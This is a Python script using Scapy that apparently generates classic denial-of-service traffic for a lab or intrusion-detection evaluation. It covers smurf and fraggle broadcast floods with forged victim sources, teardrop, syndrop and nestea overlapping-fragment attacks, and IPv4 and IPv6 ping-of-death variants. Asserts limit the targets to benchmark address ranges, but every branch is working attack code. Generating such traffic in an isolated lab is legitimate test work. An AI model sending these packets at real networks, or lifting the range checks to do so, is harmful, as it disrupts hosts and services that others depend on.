#!/usr/bin/python3
"""Classic denial-of-service attacks (the DARPA 1998/99 evaluations' names), sent with Scapy
from lab/classic.sh's attacker namespace, only to lab addresses (checked).

    classic.py smurf|fraggle|teardrop|syndrop|nestea|pod|podx|pod6 IFACE
    environment: DST (the broadcast address, default 198.18.0.255), RATE (a second, 250),
    COUNT (400), PORT (fraggle's, 7: echo; 19: chargen); podx and pod6 (pings of death of
    SIZE bytes of echo data, default 65,600, cut by Scapy or by hand; IPv6 to 2001:2::c612:a):
    POD (datagrams, 3)
"""
import sys, time
from scapy.all import Ether, IP, ICMP, UDP, TCP, Raw, sendp, fragment, conf
conf.verb = 0
import os
V, B = "198.18.0.10", os.environ.get("DST", "198.18.0.255")
RATE, COUNT, PORT = float(os.environ.get("RATE", "250")), int(os.environ.get("COUNT", "400")), int(os.environ.get("PORT", "7"))
kind, iface = sys.argv[1], sys.argv[2]
assert V.startswith("198.18.0."), V
assert B.startswith("198.18.0.") or B == "255.255.255.255", B
bc = Ether(dst="ff:ff:ff:ff:ff:ff")
if kind == "smurf":      # echo requests to the broadcast address, source forged as the victim
    for i in range(COUNT):
        sendp(bc / IP(src=V, dst=B) / ICMP(id=0x4242, seq=i) / Raw(b"x" * 56), iface=iface)
        time.sleep(1 / RATE)
elif kind == "fraggle":  # UDP echo requests to the broadcast address, source forged as the victim
    for i in range(COUNT):
        sendp(bc / IP(src=V, dst=B) / UDP(sport=7000 + i % 50, dport=PORT) / Raw(b"y" * 64), iface=iface)
        time.sleep(1 / RATE)
elif kind == "teardrop":  # overlapping UDP fragments (the second starts inside the first)
    for i in range(150):
        a = IP(dst=V, id=1000 + i, flags="MF", frag=0, proto=17) / Raw(b"A" * 36)
        b = IP(dst=V, id=1000 + i, frag=3, proto=17) / Raw(b"B" * 4)
        sendp(Ether() / a, iface=iface); sendp(Ether() / b, iface=iface)
        time.sleep(0.01)
elif kind == "syndrop":   # teardrop over TCP: a SYN's first fragment, then one inside it
    for i in range(120):
        a = IP(dst=V, id=3000 + i, flags="MF", frag=0, proto=6) / Raw(bytes(TCP(sport=4000 + i, dport=80, flags="S")) + b"S" * 28)
        b = IP(dst=V, id=3000 + i, frag=3, proto=6) / Raw(b"T" * 4)
        sendp(Ether() / a, iface=iface); sendp(Ether() / b, iface=iface)
        time.sleep(0.015)
elif kind == "nestea":    # three fragments: the third starts at 0 again, over the other two
    for i in range(100):
        a = IP(dst=V, id=5000 + i, flags="MF", frag=0, proto=17) / UDP(sport=5353 + i, dport=53) / Raw(b"N" * 10)
        b = IP(dst=V, id=5000 + i, frag=6, proto=17) / Raw(b"E" * 8)
        c = IP(dst=V, id=5000 + i, flags="MF", frag=0, proto=17) / Raw(b"Z" * 232)
        for f in (a, b, c):
            sendp(Ether() / f, iface=iface)
        time.sleep(0.02)
elif kind == "pod":       # ping of death: fragments of an echo request longer than 65,535 bytes
    for i in range(12):
        frags = fragment(IP(dst=V, id=2000 + i) / ICMP() / Raw(b"P" * 65400), fragsize=1480)
        last = IP(dst=V, id=2000 + i, frag=65520 // 8, proto=1) / Raw(b"Q" * 200)
        for f in frags + [last]:
            sendp(Ether() / f, iface=iface)
        time.sleep(0.2)
elif kind == "podx":      # ping of death as scapy's fragment() cuts it: SIZE bytes of echo data
    size = int(os.environ.get("SIZE", "65600"))
    for i in range(int(os.environ.get("POD", "3"))):
        for f in fragment(IP(dst=V, id=7000 + i) / ICMP(id=0x5151, seq=i) / Raw(b"X" * size), fragsize=1480):
            sendp(Ether() / f, iface=iface)
        time.sleep(0.5)
elif kind == "pod6":      # IPv6 ping of death: fragments whose offset + length pass 65,535
    from scapy.all import IPv6, IPv6ExtHdrFragment, ICMPv6EchoRequest
    V6 = "2001:2::c612:a"
    assert V6.startswith("2001:2::"), V6
    for i in range(int(os.environ.get("POD", "3"))):
        body = bytes(ICMPv6EchoRequest(id=0x6161, seq=i) / Raw(b"X" * int(os.environ.get("SIZE", "65600"))))
        step = 1448
        for off in range(0, len(body), step):
            more = int(off + step < len(body))
            f = IPv6(dst=V6, nh=44) / IPv6ExtHdrFragment(nh=58, offset=off // 8, m=more, id=9000 + i) / Raw(body[off:off + step])
            sendp(Ether(dst="ff:ff:ff:ff:ff:ff") / f, iface=iface)  # no neighbour discovery per packet
        time.sleep(0.5)
else:
    sys.exit("unknown kind")
